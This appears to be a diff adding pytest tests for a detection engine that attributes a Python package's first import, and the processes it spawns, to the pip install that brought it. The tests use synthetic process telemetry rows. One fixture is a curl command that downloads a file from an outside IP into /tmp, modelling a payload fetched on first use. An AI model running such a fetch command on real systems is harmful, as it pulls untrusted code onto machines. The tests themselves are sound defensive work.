@@ -1,0 +1,87 @@
+"""What a package does when it is first imported belongs to the install that brought it."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from engine import START, run, shipped
+from installer_trees.first_use import used_names
+
+CATALOGUE = shipped()
+Row = dict[str, Any]
+
+
+def row(pid: int, parent: int, line: str, after: float, **more: Any) -> Row:
+    name = line.split()[0].rsplit("/", 1)[-1]
+    return {"_time": START + after, "dest": "build-1", "process_id": str(pid), "process_name": name,
+            "process": line, "parent_process_id": str(parent), "user": "kim", **more}  # fmt: skip
+
+
+def members(rows: list[Row]) -> list[list[str]]:
+    pipeline, kept = run(rows, CATALOGUE)
+    return sorted([n.process.process for n in pipeline._tree(one).nodes] for one in kept)
+
+
+SHELL = row(10, 1, "bash -c 'pip install -q color-kit && python3 -c \"import color_kit\"'", 0)
+PIP = row(11, 10, "/usr/bin/python3 /usr/bin/pip install -q color-kit==1.2", 1)
+CHILD = row(13, 12, "curl -s http://203.0.113.9/a -o /tmp/a", 9)
+
+
+@pytest.mark.parametrize(
+    "use",
+    [
+        row(12, 10, "python3 -c import color_kit", 8),
+        row(12, 10, "python3 -m color_kit.tool --fast", 8),
+        row(12, 10, "/usr/bin/python3 /home/kim/.local/bin/color-kit", 8),
+        row(12, 10, "color-kit --version", 8),
+    ],
+    ids=["import", "module", "script", "command"],
+)
+def test_first_use_and_what_it_starts_belong_to_the_install(use: Row) -> None:
+    rows = [SHELL, PIP, use, CHILD]
+    assert members(rows) == [[PIP["process"], use["process"], CHILD["process"]]]
+    assert members(rows[::-1]) == members(rows), "the order of arrival does not count"
+
+
+def test_what_the_shell_became_is_a_use_too() -> None:
+    use = row(10, 1, "python3 -c import color_kit", 8)
+    child = {**CHILD, "parent_process_id": "10"}
+    rows = [SHELL, PIP, use, child]
+    assert members(rows) == [[PIP["process"], use["process"], child["process"]]]
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        row(12, 10, "python3 -c import color_kit", 900),
+        row(12, 99, "python3 -c import color_kit", 8),
+        row(12, 10, "python3 -c import color_kits", 8),
+        row(12, 10, "python3 train.py --colors color-kit", 8),
+        row(12, 10, "python3 -c import color_kit", 0.5),
+    ],
+    ids=["much later", "another shell", "another name", "an argument", "before"],
+)
+def test_what_is_no_first_use_stays_outside(other: Row) -> None:
+    assert members([SHELL, PIP, other]) == [[PIP["process"]]]
+
+
+def test_a_system_package_has_no_first_use() -> None:
+    apt = row(11, 10, "apt-get install color-kit", 1)
+    use = row(12, 10, "color-kit --version", 8)
+    assert members([SHELL, apt, use]) == [[apt["process"]]]
+
+
+@pytest.mark.parametrize(
+    ("line", "names"),
+    [
+        ("node -e require('@scope/my-tool/lib')", {"mytool"}),
+        ("python3.11 -c from a_b.c import d; import e", {"ab", "e"}),
+        (r"C:\Python\python.exe C:\Python\Scripts\My.Tool.exe run", {"mytool"}),
+        ("node -e import('chalk')", {"chalk"}),
+        ("ruby -e puts", set()),
+        ("", set()),
+    ],
+)
+def test_names_that_a_line_uses(line: str, names: set[str]) -> None:
+    assert used_names(line) == names
